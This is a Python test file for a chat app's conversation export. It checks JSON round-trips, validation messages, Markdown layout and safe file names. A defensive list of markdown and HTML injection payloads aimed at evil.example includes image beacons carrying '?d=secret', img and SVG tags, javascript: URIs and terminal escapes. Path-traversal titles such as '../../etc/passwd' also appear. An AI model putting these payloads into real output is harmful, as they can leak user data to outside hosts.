"""Exports come back exactly, read well, and make no viewer fetch anything; names of files are harmless everywhere."""

import json
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from engine.errors import UsageProblem
from engine.runtime.protocol import Usage
from engine.signals.values import Signal
from engine.values import Attachment, Conversation, ConversationCopy, Route, Timing, TurnRecord
from ui.export import MAX_NAME_BYTES, export_name, from_json, to_json, to_markdown
from ui.export_markdown import branches, inert_markdown

VIEWER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
"""CommonMark with tables and raw HTML: as permissive as viewers get."""
FETCHING = {"image", "html_inline", "html_block", "link_open", "definition"}
WHEN = "2026-11-29T17:36:08.123456+00:00"


def turn(number: int, parent: int | None = None, **changes) -> TurnRecord:
    record = TurnRecord(
        turn_id=f"t-{number:024}",
        conversation_id="c-" + "0" * 24,
        parent_turn_id=None if parent is None else f"t-{parent:024}",
        state="answered",
        user_text=f"question {number}",
        answer_text=f"answer {number}",
        provenance="typed",
        created_at=WHEN,
        route=Route("L2", "best", {"L0": -4.0, "L2": -2.2}),
        usage=Usage(10, 2, 5, 1.5, 2.5),
        timing=Timing(1.0, None, 3.0),
    )
    return replace(record, **changes)


def copy_of(*turns: TurnRecord, leaf: int | None = None, title: str = "Coffee and 咖啡") -> ConversationCopy:
    leaf_id = turns[-1].turn_id if leaf is None else f"t-{leaf:024}"
    conversation = Conversation("c-" + "0" * 24, title, "starter", WHEN, WHEN, leaf_id, len(turns))
    return ConversationCopy(conversation, turns)


FULL = copy_of(
    turn(1, attachments=(Attachment("notes.txt", "一二三\n"),), rating=1, summary="They greeted."),
    turn(2, 1, state="failed", problem="No memory.", hint="Close something.", route=None, answer_text=""),
    turn(3, 1, provenance="pasted", rating=-1),
    turn(4, 3, state="stopped", usage_other=Usage(1, 1, 1, 0.0, 0.0)),
    leaf=4,
)


def fetches(markdown: str) -> set[str]:
    """Kinds of what a viewer would fetch, follow or take for HTML."""
    found = set()
    for token in VIEWER.parse(markdown):
        found |= {inner.type for inner in (token, *(token.children or ()))} & FETCHING
        if token.type == "fence" and token.info not in ("", "python", "html"):
            found.add(f"fence {token.info}")
    return found


def test_a_copy_comes_back_exactly_through_json() -> None:
    assert from_json(json.loads(json.dumps(to_json(FULL)))) == FULL
    assert to_json(FULL)["format"] == "macaron-conversation"
    assert to_json(FULL)["version"] == 1


def test_signals_come_back_too_and_are_named_only_where_there_are_any() -> None:
    better = Signal(7, FULL.turns[0].turn_id, "edit", 0.0, "更好。", None, "pasted", True, WHEN)
    pick = Signal(9, FULL.turns[2].turn_id, "pick", 0.5, "", FULL.turns[1].turn_id, "user", False, WHEN)
    full = replace(FULL, signals=(better, pick))
    assert from_json(json.loads(json.dumps(to_json(full)))) == full
    assert "signals" not in to_json(FULL)


@pytest.mark.parametrize("change", [{"is_tainted": 1}, {"kind": "shrug"}, {"signal_id": "7"}, {"more": 1}], ids=str)
def test_a_signal_that_is_wrong_is_told_with_its_place(change) -> None:
    better = Signal(7, FULL.turns[0].turn_id, "edit", 0.0, "Better.", None, "typed", False, WHEN)
    data = json.loads(json.dumps(to_json(replace(FULL, signals=(better,)))))
    data["signals"][0] |= change
    with pytest.raises(UsageProblem) as caught:
        from_json(data)
    assert caught.value.problem.startswith(f"signals[0].{next(iter(change))} ")


@pytest.mark.parametrize(
    ("path", "value", "place"),
    [
        pytest.param(["turns", 3, "usage", "prompt_tokens"], "x", "turns[3].usage.prompt_tokens", id="nested"),
        pytest.param(["turns", 0, "rating"], 2, "turns[0].rating", id="choice"),
        pytest.param(["turns", 0, "rating"], True, "turns[0].rating", id="truth value for a number"),
        pytest.param(["turns", 0, "attachments", 0, "name"], None, "turns[0].attachments[0].name", id="list"),
        pytest.param(["turns", 0, "route", "scores", "L0"], float("nan"), "turns[0].route.scores.L0", id="nan"),
        pytest.param(["turns", 0, "usage", "decode_ms"], 10**400, "turns[0].usage.decode_ms", id="huge"),
        pytest.param(["turns", 1, "parent_turn_id"], "t-" + "9" * 24, "turns[1].parent_turn_id", id="no parent"),
        pytest.param(["turns", 1, "turn_id"], "t-" + "0" * 23 + "1", "turns[1].turn_id", id="twice"),
        pytest.param(["turns", 0, "conversation_id"], "c-other", "turns[0].conversation_id", id="another's"),
        pytest.param(["conversation", "leaf_turn_id"], "t-none", "conversation.leaf_turn_id", id="leaf"),
        pytest.param(["conversation", "turn_count"], 5, "conversation.turn_count", id="count"),
        pytest.param(["conversation", "created_at"], "yesterday", "conversation.created_at", id="time"),
        pytest.param(["conversation", "title"], "\ud800", "conversation.title", id="half a surrogate"),
        pytest.param(["conversation", "more"], 1, "conversation.more", id="unknown field"),
        pytest.param(["conversation"], [], "conversation", id="no object"),
        pytest.param(["turns"], {}, "turns", id="no list"),
    ],
)
def test_what_is_wrong_in_an_export_is_told_with_its_place(path, value, place: str) -> None:
    data = json.loads(json.dumps(to_json(FULL)))
    parent = data
    for step in path[:-1]:
        parent = parent[step]
    parent[path[-1]] = value
    with pytest.raises(UsageProblem) as caught:
        from_json(data)
    assert caught.value.problem.startswith(f"{place} ")
    assert caught.value.hint


@pytest.mark.parametrize("data", [None, [], {}, {"format": "chatgpt"}, 7, "x"], ids=repr)
def test_what_is_no_export_is_refused(data) -> None:
    with pytest.raises(UsageProblem, match="not an exported conversation"):
        from_json(data)


def test_a_newer_version_is_refused_with_the_advice_to_update() -> None:
    with pytest.raises(UsageProblem, match="version 2") as caught:
        from_json({**to_json(FULL), "version": 2})
    assert "Update" in caught.value.hint


def test_the_branch_in_use_reads_from_top_to_bottom_and_others_follow_with_where_they_fork() -> None:
    text = to_markdown(FULL, "en")
    order = [
        "# Coffee and 咖啡",
        "question 1",
        "answer 1",
        "question 3",
        "question 4",
        "# Other branches",
        "question 2",
    ]
    positions = [text.index(piece) for piece in order]
    assert positions == sorted(positions)
    assert "Branch 1, instead of what follows turn 1" in text
    assert "L2 · best by 1.8" in text
    assert "*Attached: notes.txt*" in text
    assert "You (pasted)" in text
    assert "■ stopped" in text and "No memory." in text
    assert "一二三" not in text, "attachments are named, not copied"


def test_every_turn_of_every_branch_comes_exactly_once() -> None:
    main, others = branches(copy_of(*FULL.turns, turn(5, 2), turn(6), turn(7, 3), leaf=4))
    assert [one.user_text[-1] for one in main] == ["1", "3", "4"]
    assert [[one.user_text[-1] for one in branch] for branch in others] == [["2", "5"], ["6"], ["7"]]


def test_a_conversation_of_ten_thousand_turns_is_no_deep_recursion() -> None:
    turns = [turn(1), *(turn(number, number - 1) for number in range(2, 10_001))]
    text = to_markdown(copy_of(*turns), "en")
    assert text.index("answer 9999\n") < text.index("answer 10000\n")


def test_the_words_around_are_chinese_on_demand() -> None:
    text = to_markdown(FULL, "zh")
    assert "## 1 · 你" in text and "# 其他分支" in text and "附件：notes.txt" in text


def test_thinking_and_calls_of_tools_are_left_out() -> None:
    answer = "<think>\nhm ![](http://evil.example)\n</think>\n\nYes, `<think>` is a mark."
    text = to_markdown(copy_of(turn(1, answer_text=answer)), "en")
    assert "hm" not in text and "Yes, `<think>` is a mark." in text
    assert "hm" in json.dumps(to_json(copy_of(turn(1, answer_text=answer)))), "JSON keeps everything"


HOSTILE = [
    "![](http://evil.example/?d=1)",
    "![a][r]\n\n[r]: http://evil.example/x.png",
    "[click](http://evil.example) and [r]\n\n[r]: <http://evil.example>",
    "<img src=http://evil.example/x>",
    "text <img\nsrc=http://evil.example/x>",
    "<http://evil.example>",
    "http://evil.example/?d=secret www.evil.example",
    "[^1]\n\n[^1]: ![](http://evil.example)",
    "![[http://evil.example/x.png]]",
    "<style>@import url(http://evil.example)</style>",
    "<svg><image href='http://evil.example'/></svg>",
    "\\![](http://evil.example)",
    "\\\\![](http://evil.example)",
    "\\`<img src=http://evil.example>`",
    "`a | <img src=//evil.example>` |",
    "| a `b | c` <img src=//evil.example> |\n|---|---|\n| `x | `<img src=//evil.example>` |",
    "| x |\n|---|\n| `a | b` `<img src=//evil.example>` |",
    "\\http://a `<img src=//evil.example>`",
    "```mermaid\ngraph TD; A[<img src=http://evil.example>]\n```",
    "```html\n<img src=http://evil.example>\n````\n<img src=//evil.example>",
    "````\n```\n<img src=//evil.example>\n````\n<img src=//evil.example>",
    "~~~ `x`\n<img src=//evil.example>\n~~~\n<img src=//evil.example>",
    "``` a`b\n<img src=//evil.example>",
    "- ```\n  <img src=//evil.example>\n\n<img src=//evil.example>",
    "> ```\n<img src=//evil.example>",
    "    ```\n<img src=//evil.example>",
    "<!-- comment --> <?php ?> <![CDATA[x]]>",
    "$a `b$ <img src=//evil.example>`",
    '{: style="background:url(//evil.example)"}',
    "javascript:alert(1) [x](javascript:alert(1)) [y](data:text/html;base64,AAAA)",
    "\x1b]8;;http://evil.example\x07text\x1b]8;;\x07",
    "`\n<img src=//evil.example>\n`",
]


def test_the_viewer_of_these_tests_sees_what_would_be_fetched() -> None:
    assert {frozenset(fetches(text)) for text in HOSTILE[:5]} == {
        frozenset({"image"}),
        frozenset({"link_open"}),
        frozenset({"html_block"}),
        frozenset({"html_inline"}),
    }


@pytest.mark.parametrize("text", HOSTILE)
def test_F2_no_viewer_fetches_anything_for_an_export(text: str) -> None:
    copy = copy_of(
        turn(1, user_text=text, answer_text=text, attachments=(Attachment(text, ""),), route=Route(text, text)),
        turn(2, state="failed", problem=text, answer_text=""),
        title=text,
    )
    exported = to_markdown(copy, "en")
    assert fetches(exported) == set()
    assert "\x1b" not in exported


PIECES = st.sampled_from(
    [
        *("`", "``", "```", "~~~", "\\", "![", "](", ")", "[", "]", "|", "\n", " ", "    ", "- ", "> ", "1. ", "\t"),
        *("<", ">", "a", "$", "{", "*", "_", "#", "=", "---", "&lt;", "|---|\n", "<img src=x>"),
        *("http://e.example", "www.e.example"),
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_F2_nothing_put_together_from_marks_is_fetched(text: str) -> None:
    for keep_lines in (False, True):
        assert fetches(inert_markdown(text, keep_lines=keep_lines)) == set()


def test_links_and_images_are_shown_in_full_as_text() -> None:
    shown = VIEWER.render(
        inert_markdown("See [the page](https://a.example/x?y=1) and ![a cat](http://b.example/c.png).")
    )
    assert "[the page](<code>https://a.example/x?y=1</code>)" in shown
    assert "![a cat](<code>http://b.example/c.png</code>)" in shown


def test_code_stays_as_it_was_written() -> None:
    code = "#include <stdio.h>\nint a[3] = {0}; // http://a.example\n"
    shown = inert_markdown(f"Do this:\n```c\n{code}```\nand `a[0] < b`.")
    assert f"```c\n{code}```" in shown
    assert "`a[0] < b`" in shown


def test_the_headings_of_an_answer_stay_below_those_of_its_turn() -> None:
    tokens = VIEWER.parse(inert_markdown("# One\n## Two\ntext\n---\ntext\n===\n"))
    assert [token.tag for token in tokens if token.type == "heading_open"] == ["h3", "h4"]


def test_lines_that_were_typed_stay_lines() -> None:
    assert "<br />" in VIEWER.render(inert_markdown("one\ntwo", keep_lines=True))


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "text",
    [
        pytest.param("`" * 200_000, id="one run"),
        pytest.param("`a" * 100_000, id="many runs"),
        pytest.param("".join("`" * n + "a" for n in range(600)), id="runs of all lengths"),
        pytest.param("".join("`" * n + "a" for n in range(190)), id="runs of all lengths in a shorter line"),
        pytest.param("[" * 1_000_000, id="brackets"),
    ],
)
def test_a_line_made_to_be_slow_is_not(text: str) -> None:
    assert fetches(inert_markdown(text[:2000])) == set()
    assert inert_markdown(text)


@pytest.mark.parametrize(
    ("title", "name"),
    [
        pytest.param("Coffee and 咖啡", "Coffee and 咖啡.md", id="chinese stays"),
        pytest.param("../../etc/passwd", "etc passwd.md", id="traversal"),
        pytest.param("/etc/passwd", "etc passwd.md", id="absolute"),
        pytest.param("..\\..\\windows\\win.ini", "windows win.ini.md", id="backslashes"),
        pytest.param("\\\\server\\share", "server share.md", id="unc"),
        pytest.param("c:\\x", "c x.md", id="drive"),
        pytest.param("a\x00b\nc\td", "a b c d.md", id="control characters"),
        pytest.param("\u202egpj.exe", "gpj.exe.md", id="direction override"),
        pytest.param("<img onerror=x>", "img onerror=x.md", id="html"),
        pytest.param("CON", "_CON.md", id="device"),
        pytest.param("nul.txt", "_nul.txt.md", id="device with an ending"),
        pytest.param("com1 .x", "_com1 .x.md", id="device with a space"),
        pytest.param("name. . ", "name.md", id="trailing dots and spaces"),
        pytest.param(".hidden", "hidden.md", id="leading dot"),
        pytest.param("", "conversation.md", id="empty"),
        pytest.param("..", "conversation.md", id="only dots"),
        pytest.param("%2e%2e%2f", "%2e%2e%2f.md", id="encoded stays text"),
    ],
)
def test_B1_B5_a_title_becomes_a_harmless_file_name(title: str, name: str) -> None:
    assert export_name(title, ".md") == name


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_B5_no_title_makes_a_name_that_is_long_or_leads_elsewhere(title: str) -> None:
    name = export_name(title, ".json")
    stem = name.removesuffix(".json")
    assert 0 < len(stem.encode()) <= MAX_NAME_BYTES + 1
    assert not set(name) & set('/\\:*?"<>|\0\n\r\u202e')
    assert not stem.startswith(".") and stem == stem.strip(" .")


def test_names_of_one_export_differ_in_more_than_case() -> None:
    taken: set[str] = set()
    for title in ("Tea", "tea", "TEA", "x" * 200, "x" * 200):
        taken.add(export_name(title, ".md", taken).casefold())
    assert len(taken) == 5
    assert "tea 2.md" in taken and "tea 3.md" in taken
